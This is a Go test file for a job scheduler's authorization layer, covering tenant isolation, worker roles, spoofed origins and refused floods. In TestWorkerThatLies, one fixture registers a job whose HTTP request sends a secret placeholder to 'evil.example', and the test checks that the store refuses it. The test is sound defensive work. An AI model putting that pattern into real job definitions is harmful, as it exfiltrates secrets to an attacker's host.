package busstore

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/carillon-scheduler/carillon/bus"
	"github.com/carillon-scheduler/carillon/bus/membus"
	"github.com/carillon-scheduler/carillon/internal/kernel"
	"github.com/carillon-scheduler/carillon/jobs"
	"github.com/carillon-scheduler/carillon/metastore"
	"github.com/carillon-scheduler/carillon/metastore/memstore"
)

var (
	node   = bus.Principal{Tenant: "default", Role: bus.Node, Name: "n1"}
	worker = bus.Principal{Tenant: "default", Role: bus.Worker, Name: "billing", App: "billing"}
	client = bus.Principal{Tenant: "default", Role: bus.Client, Name: "shop"}
)

// A new read gets its row here, or this fails.
func TestEveryReadHasItsRow(t *testing.T) {
	for v := verb(1); v.String() != "?"; v++ {
		if _, ok := mayAsk[v]; !ok {
			t.Errorf("question %s has no row: which roles may read it?", v)
		}
	}
}

// The connection says who sends a command, whatever the envelope does. Only a node names others.
func TestSign(t *testing.T) {
	admin := &kernel.Sender{As: kernel.AsAdmin}
	for from, as := range map[bus.Principal]kernel.SentAs{node: kernel.AsAdmin, worker: kernel.AsWorker, client: kernel.AsProgram,
		{Tenant: "default", Role: "stranger", Name: "x"}: kernel.AsUnknown, {Tenant: "default"}: kernel.AsUnknown} {
		e := kernel.Envelope{Tenant: "default", Actor: "person:ann", Sender: admin, Command: kernel.Cancel{ID: jobs.ID{1}}}
		if err := sign(from, from.Actor(), senderOf(from, from.App), &e); err != nil || e.Sender == nil || e.Sender.As != as || e.Sender.App != from.App && as == kernel.AsWorker {
			t.Errorf("%s sends as %+v: %v", from.Actor(), e.Sender, err)
		}
		if from.Role != bus.Node && e.Actor != from.Actor() {
			t.Errorf("%s sends as %s", from.Actor(), e.Actor)
		}
		e.Tenant, e.Command = "other", kernel.Cancel{ID: jobs.ID{1}}
		if err := sign(from, from.Actor(), senderOf(from, from.App), &e); (err == nil) != (from.Role == bus.Node) {
			t.Errorf("%s speaks for another tenant: %v", from.Actor(), err)
		}
	}
}

func TestReadAuthority(t *testing.T) {
	for v, may := range map[verb]string{
		askDefinition: "worker client", askRun: "worker client", askDefinitions: "client", askRuns: "client",
		askLedger: "client", askCounts: "client", askGlobal: "client", 99: "",
		askToken: "", askTokens: "", askSession: "", askSessions: "", askAudits: "",
	} {
		for _, from := range []bus.Principal{node, worker, client, {Role: "stranger"}} {
			allowed := from.Role == bus.Node || strings.Contains(may, string(from.Role))
			if err := reads(from, v, &question{Tenant: from.Tenant}); allowed != (err == nil) {
				t.Errorf("%s reads %s: %v", from.Actor(), v, err)
			}
			err := reads(from, v, &question{Tenant: "other"})
			if from.Role == bus.Node && err != nil || from.Role != bus.Node && !errors.Is(err, jobs.Forbidden) {
				t.Errorf("%s reads %s of another tenant: %v", from.Actor(), v, err)
			}
			if from.Role != bus.Node && reads(from, v, &question{Tenant: "*"}) == nil {
				t.Errorf("%s reads %s of all tenants", from.Actor(), v)
			}
		}
	}
}

// fixture is a served store and the bus before it.
type fixture struct {
	hub   *membus.Hub
	store metastore.Full
	n     int
}

func newFixture(t *testing.T, c Config) *fixture {
	t.Helper()
	h := &fixture{hub: membus.New(), store: memstore.Open(memstore.Config{})}
	if err := Serve(t.Context(), h.hub.As(node), h.store, c); err != nil {
		t.Fatal(err)
	}
	return h
}

func (h *fixture) as(p bus.Principal) metastore.Store { return Patient(New(h.hub.As(p), p)) }

// send applies one command through a store and answers with its result.
func (h *fixture) send(t *testing.T, s metastore.Store, c kernel.Command) metastore.Result {
	t.Helper()
	h.n++
	return s.Apply(t.Context(), []kernel.Envelope{{ID: kernel.DerivedID(fmt.Sprint(h.n)), Command: c}})[0]
}

func (h *fixture) must(t *testing.T, s metastore.Store, c kernel.Command) kernel.Effect {
	t.Helper()
	r := h.send(t, s, c)
	if r.Err != nil {
		t.Fatalf("%s: %v", c.Verb(), r.Err)
	}
	return r.Effect
}

func (h *fixture) refused(t *testing.T, s metastore.Store, c kernel.Command, code jobs.Code) {
	t.Helper()
	if r := h.send(t, s, c); !errors.Is(r.Err, code) {
		t.Errorf("%s %+v: %v, want %s", c.Verb(), c, r.Err, code)
	}
}

func register(app, worker string, key jobs.Key) kernel.Register {
	return kernel.Register{App: app, Worker: worker, Start: true, Job: kernel.Declaration{Key: key, Kind: kernel.Triggered}}
}

// A worker with false claims is refused; what it may do happens in its own name.
func TestWorkerThatLies(t *testing.T) {
	h := newFixture(t, Config{})
	w, c, n := h.as(worker), h.as(client), h.as(node)
	h.must(t, w, register("billing", "billing-1", "charge"))
	steal := register("billing", "billing-1", "steal")
	steal.Job.Code.HTTP = new(json.RawMessage(`{"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]}`))
	h.refused(t, w, steal, jobs.BadInput)
	// Only the worker that has a run starts notifications about it, and no worker starts other runs of system jobs.
	notify := kernel.NotifyKey("billing")
	h.must(t, w, register("billing", "billing-1", notify))
	h.refused(t, w, register("billing", "billing-1", kernel.NotifyKey("shipping")), jobs.BadInput)
	h.refused(t, w, register("billing", "billing-1", "carillon.evil"), jobs.BadInput)
	for _, origin := range []kernel.Origin{"", kernel.FromCode, kernel.FromParent, kernel.FromRetry} {
		for _, s := range []metastore.Store{w, c} {
			h.refused(t, s, kernel.Create{ID: jobs.ID{6}, Key: notify, Origin: origin}, jobs.Forbidden)
		}
	}
	about := kernel.Notify{Run: jobs.ID{7}, App: "billing", Worker: "billing-1", Attempt: 1, N: 1, Body: []byte(`{}`)}
	h.refused(t, w, about, jobs.NotFound)
	run := jobs.ID{7}
	r := h.must(t, c, kernel.Create{ID: run, Key: "charge", Args: []byte(`{"a":1}`)}).Run()
	if r.ID != run || r.State != jobs.Enqueued || r.Key != "charge" || r.Args != nil {
		t.Errorf("created %+v", r)
	}
	if kept, err := n.Run(t.Context(), "default", run); err != nil || kept.Actor != "client:shop" {
		t.Errorf("kept %+v, %v", kept, err)
	}
	// Clients cannot take the computed ID of a follow-up run in advance.
	for _, id := range []jobs.ID{kernel.ChildID(&kernel.Run{Tenant: "default", ID: run}, "receipt"), kernel.DueID("default", r.Job, time.Now(), 0, 0)} {
		for _, s := range []metastore.Store{w, c} {
			h.refused(t, s, kernel.Create{ID: id, Key: "charge"}, jobs.Forbidden)
		}
		h.must(t, n, kernel.Create{ID: id, Key: "charge"})
	}
	// Only leaders start runs, and take starts back.
	h.refused(t, w, kernel.Start{ID: run, Worker: "billing-1", Attempt: 1}, jobs.Forbidden)
	h.refused(t, c, kernel.Start{ID: run, Worker: "billing-1", Attempt: 1}, jobs.Forbidden)
	h.must(t, n, kernel.Start{ID: run, Worker: "billing-1", Attempt: 1})
	h.refused(t, w, kernel.Unstart{ID: run, Attempt: 1}, jobs.Forbidden)
	for change, code := range map[*kernel.Notify]jobs.Code{{Worker: "billing-1", Attempt: 2}: jobs.Stale, {Worker: "billing-2", Attempt: 1}: jobs.Forbidden, {Worker: "shipping-1", Attempt: 1}: jobs.Forbidden} {
		other := about
		other.Worker, other.Attempt = change.Worker, change.Attempt
		h.refused(t, w, other, code)
	}
	h.refused(t, c, about, jobs.Forbidden)
	h.must(t, w, about)
	finish := kernel.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: kernel.OutcomeSuccess, Result: []byte(`"ok"`)}
	with := func(change func(*kernel.Finish)) kernel.Finish { f := finish; change(&f); return f }
	// Reports for former attempts, from other workers, and malformed ones.
	h.refused(t, w, with(func(f *kernel.Finish) { f.Attempt = 0 }), jobs.BadInput)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Attempt = 2 }), jobs.Stale)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Worker = "billing-2" }), jobs.Forbidden)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Worker = "shipping-1" }), jobs.Forbidden)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Outcome = 9 }), jobs.BadInput)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Result = []byte("none") }), jobs.BadInput)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Result = make([]byte, kernel.MaxResult+1) }), jobs.BadInput)
	h.refused(t, w, with(func(f *kernel.Finish) { f.Delay = -time.Second }), jobs.BadInput)
	h.refused(t, c, finish, jobs.Forbidden)
	// Once, twice: one result.
	done := h.must(t, w, finish).Run()
	again := h.must(t, w, finish)
	if done.State != jobs.Succeeded || again.Run().State != jobs.Succeeded || !again.Existing {
		t.Errorf("finished %s, then %s (existing %v)", done.State, again.Run().State, again.Existing)
	}
	if len(done.Args)+len(done.Result) > 0 {
		t.Error("the answer to a finish repeats what was sent")
	}
	h.refused(t, w, with(func(f *kernel.Finish) { f.Outcome, f.Result = kernel.OutcomeError, nil }), jobs.Conflict)
	if kept, err := n.Run(t.Context(), "default", run); err != nil || string(kept.Result) != `"ok"` {
		t.Errorf("kept %v, %v", kept, err)
	}
	// After a cancel, the attempt is finished.
	other := jobs.ID{8}
	h.must(t, c, kernel.Create{ID: other, Key: "charge"})
	h.must(t, n, kernel.Start{ID: other, Worker: "billing-1", Attempt: 1})
	h.must(t, c, kernel.Cancel{ID: other})
	h.refused(t, w, with(func(f *kernel.Finish) { f.ID = other }), jobs.Conflict)
	h.must(t, w, kernel.Returned{ID: other, Worker: "billing-1", Attempt: 1})
}

// Tenants do not see each other, and names in envelopes are ignored.
func TestTenantsAndActors(t *testing.T) {
	h := newFixture(t, Config{})
	w := h.as(worker)
	h.must(t, w, register("billing", "billing", "charge"))
	h.must(t, h.as(node), kernel.SetTenant{Name: "other", Create: true})
	foreign := h.as(bus.Principal{Tenant: "other", Role: bus.Worker, Name: "billing", App: "billing"})
	h.must(t, foreign, register("billing", "billing", "charge")) // its own job of the same key
	envelope := func(tenant jobs.Tenant, actor string) []kernel.Envelope {
		return []kernel.Envelope{{ID: jobs.ID{1}, Tenant: tenant, Actor: actor, Command: kernel.Create{ID: jobs.NewID(time.Now()), Key: "charge"}}}
	}
	if r := foreign.Apply(t.Context(), envelope("default", "")); !errors.Is(r[0].Err, jobs.Forbidden) {
		t.Errorf("a foreign tenant: %v", r[0].Err)
	}
	r := w.Apply(t.Context(), envelope("default", "person:ann"))
	if r[0].Err != nil {
		t.Fatal(r[0].Err)
	}
	if run, err := w.Run(t.Context(), "", r[0].Run().ID); err != nil || run.Actor != "worker:billing" {
		t.Errorf("a worker speaks as %+v, %v", run, err)
	}
	if r := h.as(node).Apply(t.Context(), envelope("other", "person:ann")); r[0].Err != nil || r[0].Run().Actor != "person:ann" || r[0].Run().Tenant != "other" {
		t.Errorf("a node names a person: %+v, %v", r[0].Run(), r[0].Err)
	}
	h.refused(t, h.as(client), kernel.Create{ID: jobs.ID{5}, Key: "charge", Origin: kernel.FromPerson}, jobs.Forbidden)
	if _, err := foreign.Definition(t.Context(), "default", "charge"); !errors.Is(err, jobs.Forbidden) {
		t.Errorf("reading a foreign job: %v", err)
	}
	if _, err := w.Runs(t.Context(), metastore.RunQuery{}); !errors.Is(err, jobs.Forbidden) {
		t.Errorf("a worker lists runs: %v", err)
	}
	if _, err := w.Run(t.Context(), "", jobs.ID{42}); !errors.Is(err, jobs.NotFound) {
		t.Errorf("no such run: %v", err)
	}
}

// The origin of a run comes from the connection, whatever the command claims: a program, or a run of its own as
// parent.
func TestOriginsAreTheConnections(t *testing.T) {
	h := newFixture(t, Config{Kept: true})
	w, c, n := h.as(worker), h.as(client), h.as(node)
	shipping := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "shipping", App: "shipping"})
	acme := h.as(bus.Principal{Tenant: "acme", Role: bus.Client, Name: "shop"})
	h.must(t, w, register("billing", "billing", "charge"))
	h.must(t, shipping, register("shipping", "shipping", "ship"))
	h.must(t, n, register("billing", "billing", "charge"))
	parent := jobs.ID{9}
	h.must(t, c, kernel.Create{ID: parent, Key: "charge"})
	for i, x := range []struct {
		as     metastore.Store
		who    string
		key    jobs.Key
		says   kernel.Origin
		parent jobs.ID
		want   kernel.Origin // "" = it is refused
	}{
		{c, "client:shop", "charge", "", jobs.ID{}, kernel.FromCode},
		{c, "client:shop", "charge", kernel.FromCode, jobs.ID{}, kernel.FromCode},
		{c, "client:shop", "charge", kernel.FromParent, jobs.ID{}, kernel.FromCode},
		{c, "client:shop", "charge", kernel.FromParent, parent, kernel.FromParent},
		{c, "client:shop", "charge", kernel.FromCode, parent, kernel.FromParent},
		{c, "client:shop", "charge", kernel.FromParent, jobs.ID{77}, ""},
		{acme, "client:shop", "charge", kernel.FromParent, parent, ""},
		{w, "worker:billing", "charge", kernel.FromCode, jobs.ID{}, kernel.FromCode},
		{w, "worker:billing", "charge", kernel.FromParent, parent, kernel.FromParent},
		{w, "worker:billing", "charge", kernel.FromParent, jobs.ID{77}, ""},
		{shipping, "worker:shipping", "ship", kernel.FromParent, parent, ""}, // another app's run
		{c, "client:shop", "charge", kernel.FromPerson, jobs.ID{}, ""},
		{c, "client:shop", "charge", kernel.FromAPI, jobs.ID{}, ""},
		{c, "client:shop", "charge", kernel.FromRetry, jobs.ID{}, ""},
		{c, "client:shop", "charge", kernel.FromRetry, parent, ""},
		{w, "worker:billing", "charge", kernel.FromRetry, parent, ""},
		{n, "person:ann", "charge", kernel.FromPerson, jobs.ID{}, kernel.FromPerson}, // a node asks for people
		{n, "person:ann", "charge", kernel.FromRetry, parent, kernel.FromRetry},
	} {
		k := kernel.Create{ID: jobs.ID{1, byte(i)}, Key: x.key, Origin: x.says, Parent: x.parent}
		r := x.as.Apply(t.Context(), []kernel.Envelope{{ID: jobs.ID{2, byte(i)}, Actor: "person:ann", Reason: "x", Command: k}})[0]
		if x.want == "" {
			if !errors.Is(r.Err, jobs.Forbidden) {
				t.Errorf("%s says %q, parent %s: %v", x.who, x.says, x.parent, r.Err)
			}
			continue
		}
		run, err := n.Run(t.Context(), "default", k.ID)
		if r.Err != nil || err != nil || run.Origin != x.want || run.Actor != x.who || run.Parent != x.parent {
			t.Errorf("%s says %q, parent %s: %v, %v, %+v", x.who, x.says, x.parent, r.Err, err, run)
		}
	}
}

// A batch whose runs have one parent reads it once.
func TestAParentIsLookedUpOnce(t *testing.T) {
	hub, counted := membus.New(), &lookups{Store: memstore.Open(memstore.Config{})}
	if err := Serve(t.Context(), hub.As(node), counted, Config{}); err != nil {
		t.Fatal(err)
	}
	allDone(t, New(hub.As(node), node).Apply(t.Context(), append([]kernel.Envelope{{ID: jobs.ID{1}, Command: register("billing", "billing", "charge")}}, creates(0, 1, "")...)))
	batch := creates(1, 100, "")
	for i := range batch {
		k := batch[i].Command.(kernel.Create)
		k.Parent = kernel.DerivedID("run0")
		k.ID = jobs.ID{1, byte(i)}
		batch[i].Command = k
	}
	allDone(t, New(hub.As(client), client).Apply(t.Context(), batch))
	if n := counted.runs.Load(); n != 1 {
		t.Errorf("%d runs were read", n)
	}
}

type lookups struct {
	metastore.Store
	runs atomic.Int64
}

func (l *lookups) Run(ctx context.Context, tenant jobs.Tenant, id jobs.ID) (*kernel.Run, error) {
	l.runs.Add(1)
	return l.Store.Run(ctx, tenant, id)
}

// Where the server knows a worker's app, the worker stays in it.
func TestWorkersStayInTheirApp(t *testing.T) {
	h := newFixture(t, Config{Kept: true})
	billing := h.as(worker)
	shipping := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "shipping", App: "shipping"})
	h.must(t, billing, register("billing", "billing", "charge"))
	h.must(t, billing, register("billing", "billing", "charge"))
	h.refused(t, billing, register("shipping", "billing", "ship"), jobs.Forbidden)
	theirs := register("shipping", "shipping", "charge")
	theirs.Job.Version = 99
	h.refused(t, shipping, theirs, jobs.Forbidden)
	run := jobs.ID{1}
	h.must(t, h.as(client), kernel.Create{ID: run, Key: "charge"})
	h.must(t, billing, kernel.Create{ID: jobs.ID{2}, Key: "charge"})
	h.refused(t, shipping, kernel.Create{ID: jobs.ID{3}, Key: "charge"}, jobs.Forbidden)
	h.refused(t, shipping, kernel.Start{ID: run, Worker: "shipping", Attempt: 1}, jobs.Forbidden)
	if _, err := shipping.Run(t.Context(), "", run); !errors.Is(err, jobs.Forbidden) {
		t.Errorf("reading a run of another app: %v", err)
	}
	if _, err := shipping.Definition(t.Context(), "", "charge"); !errors.Is(err, jobs.Forbidden) {
		t.Errorf("reading a job of another app: %v", err)
	}
	batch := jobs.ID{9}
	h.refused(t, shipping, kernel.OpenBatch{ID: batch, Then: "charge"}, jobs.Forbidden)
	h.must(t, billing, kernel.OpenBatch{ID: batch, Then: "charge"})
	h.must(t, shipping, register("shipping", "shipping", "ship"))
	h.refused(t, shipping, kernel.Create{ID: jobs.ID{3}, Key: "ship", Batch: batch}, jobs.Forbidden)
	h.refused(t, shipping, kernel.CloseBatch{ID: batch}, jobs.Forbidden)
	for _, id := range []jobs.ID{batch, {}} {
		if _, err := shipping.Batches(t.Context(), metastore.BatchQuery{ID: id, Limit: 10}); !errors.Is(err, jobs.Forbidden) {
			t.Errorf("reading a batch of another app: %v", err)
		}
	}
	h.must(t, billing, kernel.Create{ID: jobs.ID{3}, Key: "charge", Batch: batch})
	if list, err := billing.Batches(t.Context(), metastore.BatchQuery{ID: batch, Limit: 10}); err != nil || len(list) != 1 || list[0].Total != 1 {
		t.Errorf("its own batch: %+v, %v", list, err)
	}
	h.must(t, billing, kernel.CloseBatch{ID: batch})
	h.must(t, h.as(node), kernel.Start{ID: run, Worker: "billing-1", Attempt: 1})
	h.must(t, billing, kernel.Checkpoint{ID: run, Worker: "billing-1", Attempt: 1})
	h.must(t, billing, kernel.Expect{ID: run, Worker: "billing-1", Attempt: 1, Key: make([]byte, kernel.FeedbackKey)})
	h.refused(t, billing, kernel.Report{ID: run, Attempt: 1}, jobs.Forbidden)
	h.sees(t, run)
	h.must(t, billing, kernel.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: kernel.OutcomeSuccess})
}

// sees fails if a client gets the key that authenticates feedback about the run, or a worker does not.
func (h *fixture) sees(t *testing.T, run jobs.ID) {
	t.Helper()
	for as, keyed := range map[bus.Principal]bool{client: false, {Tenant: "default", Role: bus.Worker, Name: "billing", App: "billing"}: true} {
		r, err := h.as(as).Run(t.Context(), "", run)
		if err != nil || (r.Feedback != nil) != keyed {
			t.Errorf("%s sees %+v, %v", as.Role, r, err)
		}
		if as.Role != bus.Client {
			continue
		}
		if page, err := h.as(as).Runs(t.Context(), metastore.RunQuery{Job: "charge"}); err != nil || len(page.Runs) == 0 {
			t.Errorf("%+v, %v", page, err)
		} else {
			for _, r := range page.Runs {
				if r.Feedback != nil {
					t.Error("a list for a client has a key")
				}
			}
		}
	}
}

// A worker name that moves to another app does not keep its old runs: it cannot end another app's runs.
func TestANameThatGoesToAnotherApp(t *testing.T) {
	h := newFixture(t, Config{Kept: true})
	h1 := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "h1", App: "billing"})
	h.must(t, h1, register("billing", "h1", "charge"))
	run := jobs.ID{1}
	h.must(t, h.as(client), kernel.Create{ID: run, Key: "charge"})
	h.must(t, h.as(node), kernel.Start{ID: run, Worker: "h1-x", Attempt: 1})
	h1 = h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "h1", App: "shipping"})
	for _, c := range []kernel.Command{
		kernel.Finish{ID: run, Worker: "h1-x", Attempt: 1, Outcome: kernel.OutcomeSuccess},
		kernel.Checkpoint{ID: run, Worker: "h1-x", Attempt: 1}, kernel.Returned{ID: run, Worker: "h1-x", Attempt: 1},
	} {
		h.refused(t, h1, c, jobs.Forbidden)
	}
}

// A worker without an app, as the bus sees it, may do nothing.
func TestAWorkerOfNoApp(t *testing.T) {
	h := newFixture(t, Config{Kept: true})
	nowhere := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "billing"})
	h.refused(t, nowhere, register("billing", "billing", "charge"), jobs.Forbidden)
	if _, err := nowhere.Definition(t.Context(), "", "charge"); !errors.Is(err, jobs.Forbidden) {
		t.Errorf("reading: %v", err)
	}
}

// The worker that freed a slot does not see the run that gets it.
func TestAnswersHoldOwnRunsOnly(t *testing.T) {
	h := newFixture(t, Config{})
	w, c := h.as(worker), h.as(client)
	r := register("billing", "billing", "charge")
	r.Job.Code.MaxConcurrency = new(1)
	h.must(t, w, r)
	for i := range byte(2) {
		h.must(t, c, kernel.Create{ID: jobs.ID{1 + i}, Key: "charge", Args: []byte(`{"secret":1}`)})
	}
	h.must(t, h.as(node), kernel.Start{ID: jobs.ID{1}, Worker: "billing", Attempt: 1})
	e := h.must(t, w, kernel.Finish{ID: jobs.ID{1}, Worker: "billing", Attempt: 1, Outcome: kernel.OutcomeSuccess})
	if len(e.Runs) != 0 || e.Summary == nil || e.Run().ID != (jobs.ID{1}) || e.Run().State != jobs.Succeeded {
		t.Errorf("%d runs in the answer, %+v", len(e.Runs), e.Summary)
	}
	if run, err := h.store.Run(t.Context(), "default", jobs.ID{2}); err != nil || !run.Holds || string(run.Args) != `{"secret":1}` {
		t.Errorf("the slot was not passed on, or the row was trimmed: %+v, %v", run, err)
	}
}

// A client that is refused all the time neither fills the log nor keeps the store busy.
func TestFloodsOfWhatIsRefused(t *testing.T) {
	var said bytes.Buffer
	h := newFixture(t, Config{Logger: slog.New(slog.NewTextHandler(&said, nil))})
	begun := time.Now()
	for range 200 {
		h.refused(t, h.as(worker), kernel.Delete{Key: "charge"}, jobs.Forbidden)
		if _, err := h.as(worker).Global(t.Context(), ""); !errors.Is(err, jobs.Forbidden) {
			t.Fatal(err)
		}
	}
	if lines, most := strings.Count(said.String(), "\n"), int(time.Since(begun).Seconds())+2; lines == 0 || lines > most {
		t.Errorf("%d lines, want 1 to %d", lines, most)
	}
	keys := make([]jobs.Key, maxKeys+1)
	for i := range keys {
		keys[i] = jobs.Key(fmt.Sprint("k", i))
	}
	if _, err := h.as(client).Definitions(t.Context(), metastore.DefinitionQuery{Keys: keys}); !errors.Is(err, jobs.BadInput) {
		t.Errorf("%d keys: %v", len(keys), err)
	}
	if _, err := h.as(node).Definitions(t.Context(), metastore.DefinitionQuery{Tenant: "default", Keys: keys}); err != nil {
		t.Errorf("a node asks for %d keys: %v", len(keys), err)
	}
}
